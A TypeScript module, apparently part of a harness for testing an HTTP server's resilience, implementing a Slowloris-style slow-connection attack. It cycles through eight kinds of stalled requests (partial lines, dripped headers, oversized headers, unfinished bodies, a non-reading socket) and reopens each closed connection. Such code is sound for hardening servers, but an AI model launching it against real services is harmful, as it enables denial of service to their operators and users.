/** Connections that want to be kept open at no cost: each kind of slowness, a new one for each that is closed. */
import type { Socket } from 'node:net';
import { type Attack, attackFrom } from './hostile-connection.ts';

const ADDRESS = 2;
const DRIP_MS = 500;

const HOST = 'Host: example.org\r\n';
const UNFINISHED = `GET /slow HTTP/1.1\r\n${HOST}`;

/** How each begins, and what drips from it. */
const KINDS: readonly { readonly begin: string; readonly drip: string; readonly isDeaf?: true }[] = [
  { begin: '', drip: '' },
  { begin: 'GET ', drip: '/' },
  { begin: UNFINISHED, drip: 'X-Slow: 1\r\n' },
  { begin: `${UNFINISHED}X-Long: ${'a'.repeat(60_000)}`, drip: 'a' },
  { begin: `POST /slow HTTP/1.1\r\n${HOST}Content-Length: 100000\r\n\r\n`, drip: 'x' },
  { begin: `PUT /slow HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\nfffff\r\n`, drip: 'x' },
  { begin: `PUT /slow HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n0\r\n`, drip: 'X: y\r\n' },
  { begin: `${UNFINISHED}\r\n`.repeat(1_000), drip: '', isDeaf: true },
];

export const SLOW_ATTACK: Attack = (context) => {
  let opened = 0;
  let isOver = false;
  const dripping = new Map<Socket, string>();
  const open = (): void => {
    if (isOver) return;
    const { begin, drip, isDeaf } = KINDS[opened % KINDS.length] as (typeof KINDS)[number];
    opened += 1;
    const socket = attackFrom(ADDRESS, context);
    if (isDeaf) socket.pause();
    socket.write(begin, 'latin1');
    dripping.set(socket, drip);
    socket.on('close', () => {
      dripping.delete(socket);
      open();
    });
  };
  for (let i = 0; i < context.order.amount; i += 1) open();
  const timer = setInterval(() => {
    for (const [socket, drip] of dripping) if (drip !== '' && socket.writable) socket.write(drip, 'latin1');
  }, DRIP_MS);
  return {
    stop: () => {
      isOver = true;
      clearInterval(timer);
    },
    done: () => opened,
  };
};
